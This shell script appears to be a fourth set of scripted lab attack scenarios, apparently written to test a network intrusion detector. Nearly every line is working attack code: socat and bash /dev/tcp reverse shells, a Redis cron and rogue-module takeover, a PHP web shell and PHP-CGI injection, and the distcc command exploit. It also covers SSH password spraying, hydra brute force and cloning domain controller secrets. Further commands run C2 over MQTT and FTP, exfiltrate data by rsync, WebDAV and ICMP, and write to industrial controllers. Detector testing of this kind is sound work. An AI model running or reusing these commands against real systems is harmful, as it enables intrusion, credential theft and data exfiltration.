# attacks_fourth.sh: a fourth set of attacks, with other tools or other ways than the three before: chosen and written
# before any of it had been seen by a detector.
half=4

# ---- channels
scenario c2-channel,beacon shell_udp
shell_udp() { bg out sh -c '(sleep 4; for c in id "uname -a" "ls -la /etc | head -20" "cat /etc/passwd | head -5" "ps aux | head -8" "ip addr"; do echo "$c"; sleep 4; done) | socat -t5 - UDP-LISTEN:5353,bind=$0' $far; sleep 1; at lin timeout 45 sh -c "(echo; sleep 40) | socat -t40 UDP:$far:5353 EXEC:/bin/sh,pty,stderr"; }
scenario c2-channel,beacon shadow_socks
shadow_socks() { bg out ss-server -s $far -p 8388 -k stil -m aes-256-gcm; bg pc1 ss-local -s $far -p 8388 -b 127.0.0.1 -l 1080 -k stil -m aes-256-gcm; sleep 1; for n in $(seq 20); do at pc1 curl -s -o /dev/null --socks5-hostname 127.0.0.1:1080 "http://203.0.113.10/page$n.html"; sleep 1; done; }
scenario c2-channel,scan socks_pivot
socks_pivot() { bg lin microsocks -i $lin -p 1080; sleep 1; for h in $web:80 $files:445 $db:3306 $db:5432 $mail:25 $dc:389 $dev:9100 $dc:88; do A curl -s -m 3 -o /dev/null --socks5 $lin:1080 "http://$h/"; done; for p in 21 22 23 80 139 443 445 3389 8080 8443; do A curl -s -m 2 -o /dev/null --socks5 $lin:1080 "http://$files:$p/"; done; }
scenario c2-channel,beacon mqtt_orders
mqtt_orders() { printf 'listener 1883 %s\nallow_anonymous true\n' $far >"$dir/mq4.conf"; bg out mosquitto -c "$dir/mq4.conf"; sleep 1; bg lin sh -c 'mosquitto_sub -h $0 -t x/$(hostname)/in | while read -r c; do $c 2>&1 | mosquitto_pub -h $0 -t x/$(hostname)/out -s; done' $far; sleep 1; for c in id "uname -a" "ls -la /etc" "cat /etc/passwd" "ps aux" "ip addr"; do at out mosquitto_pub -h $far -t "x/$(hostname)/in" -m "$c"; sleep 5; done; }
scenario c2-channel,beacon,exfiltration+cleartext-credentials ftp_orders 10
ftp_orders() { mkdir -p "$dir/ftp/in"; echo id >"$dir/ftp/in/orders.txt"; for n in $(seq 14); do at lin curl -s "ftp://203.0.113.12/in/orders.txt" -o "$dir/order"; at lin sh "$dir/order" | at lin curl -s -T - "ftp://203.0.113.12/in/result$n.txt"; sleep 3; done; }

# ---- looking around
scenario scan zmap_sweep
zmap_sweep() { A zmap -q -i eth0 -p 445 -r 200 -o /dev/null -w <(echo $net.0/24) -b /dev/null -G "$(at gw cat /sys/class/net/eth0/address)" $net.0/24; }
scenario scan pnscan_sweep
pnscan_sweep() { A pnscan -n20 $net.0/24 22; A pnscan -n20 $net.0/24 3389; }
scenario scan ike_sweep
ike_sweep() { A ike-scan -M --retry=1 $net.0/24; }
scenario user-enumeration,scan smtp_rcpt
smtp_rcpt() { words; A nmap -Pn -n -p 25 --script smtp-enum-users --script-args "smtp-enum-users.methods={RCPT},userdb=$dir/words" $mail; }
scenario directory-recon msldap_dump
msldap_dump() { (cd "$dir" && for c in ldapinfo users spns asrep machines trusts gpos unconstrained; do P msldap "ldap+ntlm-password://LAB\\user1:Lente2026@$dc" login "$c"; done); }

# ---- secrets
scenario login-bruteforce+cleartext-credentials hydra_proxy
hydra_proxy() { words; printf 'echo ERR' >"$dir/no"; printf 'auth_param basic program /usr/lib/squid/basic_ncsa_auth %s/sqp\nacl a proxy_auth REQUIRED\nhttp_access allow a\nhttp_port %s.1:3128\ncache deny all\ncache_log /dev/null\npid_filename %s/sq4.pid\ncoredump_dir %s\n' "$dir" $net "$dir" "$dir" >"$dir/sq4.conf"; echo "evelien:$(openssl passwd -apr1 Zomer2026)" >"$dir/sqp"; chmod 644 "$dir/sqp"; bg gw squid -N -f "$dir/sq4.conf"; sleep 3; A hydra -l evelien -P "$dir/secrets" -t 4 -s 3128 $net.1 http-proxy http://www.news.example/; }
scenario login-spray,login-bruteforce,scan+executable-transfer ssh_worm
ssh_worm() { sshd_on dc mail dev pc1 pc2 pc3; sleep 1; for w in admin123 ubnt raspberry Zomer2026; do for h in $lin $web $files $db $dc $mail $dev $net.51 $net.52 $net.53; do A sshpass -p $w ssh -o PreferredAuthentications=password $(key) evelien@$h "id; uname -a; cat /proc/cpuinfo | head -5"; done; done; }
scenario credential-theft clone_dc
clone_dc() { A samba-tool drs clone-dc-database lab.example --targetdir="$dir/clone" --include-secrets -U 'LAB\Administrator%Winter2026!' --server=$dc; }

# ---- servers taken
scenario service-exploit+cleartext-credentials redis_cron
redis_cron() { for c in "config set dir /tmp" "config set dbfilename bt-root" "save" "config set dir $dir/redis"; do A redis-cli -h $db -a Zomer2026 --no-auth-warning $c; done; printf '\n\n* * * * * bash -i >& /dev/tcp/%s/4444 0>&1\n\n' $far | A redis-cli -h $db -a Zomer2026 --no-auth-warning -x set x; A redis-cli -h $db -a Zomer2026 --no-auth-warning save; }
scenario service-exploit+cleartext-credentials redis_rogue
redis_rogue() { bg att redis-server --bind $net.66 --port 6666 --dir "$dir" --save "" --protected-mode no; sleep 1; for c in "replicaof $net.66 6666" "config set dbfilename mod.so" "module load ./mod.so" "replicaof no one"; do A redis-cli -h $db -a Zomer2026 --no-auth-warning $c; sleep 2; done; }
scenario service-exploit distcc_exec
distcc_exec() { bg lin distccd --no-detach --daemon --allow $net.0/24 --listen $lin --user nobody --enable-tcp-insecure; sleep 1; for c in id "cat /etc/passwd"; do A nmap -Pn -n -p 3632 --script distcc-cve2004-2687 --script-args "cmd='$c'" $lin; done; }
scenario web-exploit php_cgi
php_cgi() { mkdir -p "$dir/php"; echo '<?php echo 1;' >"$dir/php/index.php"; bg lin php -S $lin:8089 -t "$dir/php"; sleep 1; A curl -s "http://$lin:8089/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input" -d '<?php system("id");?>'; A curl -s "http://$lin:8089/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input" -d '<?php system("id");?>'; }
scenario web-exploit,c2-channel web_shell
web_shell() { mkdir -p "$dir/php"; echo '<?php move_uploaded_file($_FILES["f"]["tmp_name"], __DIR__."/".$_FILES["f"]["name"]);' >"$dir/php/up.php"; echo '<?php system($_REQUEST["c"]);' >"$dir/s.php"; chmod 777 "$dir/php"; bg lin php -S $lin:8089 -t "$dir/php"; sleep 1; A curl -s -F "f=@$dir/s.php;filename=s.php" http://$lin:8089/up.php; for c in id whoami 'ls+-la' 'uname+-a' 'ps+aux'; do A curl -s "http://$lin:8089/s.php?c=$c"; sleep 1; done; A curl -s http://$lin:8089/s.php -d 'c=cat /etc/hosts'; }
scenario executable-transfer exe_smbserver
exe_smbserver() { agent adm exe "$dir/tool.exe"; mkdir -p "$dir/give"; cp "$dir/tool.exe" "$dir/give/update.exe"; bg att "$bin/smbserver.py" -smb2support -ip $net.66 give "$dir/give"; sleep 3; at pc1 smbclient //$net.66/give -N -c "get update.exe /dev/null"; }

# ---- data leaves
scenario exfiltration rsync_out
rsync_out() { mkdir -p "$dir/ro"; chmod 777 "$dir/ro"; printf 'uid = 0\ngid = 0\nuse chroot = no\n[in]\npath = %s/ro\nread only = no\n' "$dir" >"$dir/rs4.conf"; bg out rsync --daemon --no-detach --address=$far --config="$dir/rs4.conf"; sleep 1; mkdir -p "$dir/loot"; for n in $(seq 30); do head -c 10000000 /dev/urandom >"$dir/loot/$n.7z"; done; at files rsync -a "$dir/loot/" rsync://$far/in/; }
scenario exfiltration webdav_out
webdav_out() { bg out rclone serve webdav --addr $far:443 --cert "$dir/own.pem" --key "$dir/own.key" "$dir/in"; sleep 1; head -c 250000000 /dev/urandom >"$dir/all.7z"; at files curl -sk -T "$dir/all.7z" https://$far/all.7z; }
scenario icmp-tunnel,exfiltration hping_file
hping_file() { head -c 60000 /dev/urandom | base64 >"$dir/secret"; at lin timeout 60 hping3 $far --icmp -d 800 --sign stil --file "$dir/secret" --fast -c 90; }

# ---- controllers
scenario ics-command iec104_command
iec104_command() { bg dev "$py" "$here/ot.py" iec104 $net.30; sleep 1; A "$py" "$here/ot.py" iec104_orders $net.30; }
scenario ics-command cip_write
cip_write() { bg dev "$bin/enip_server" --address $net.30:44818 SCADA=INT[20]; sleep 3; for n in $(seq 8); do A "$bin/enip_client" --address $net.30:44818 --print "SCADA[$n]=(INT)4$n"; done; }
scenario ics-command opcua_write
opcua_write() { bg dev "$py" "$here/ot.py" opcua $net.30; until_up dev 4840; A "$py" "$here/ot.py" opcua_orders $net.30; }
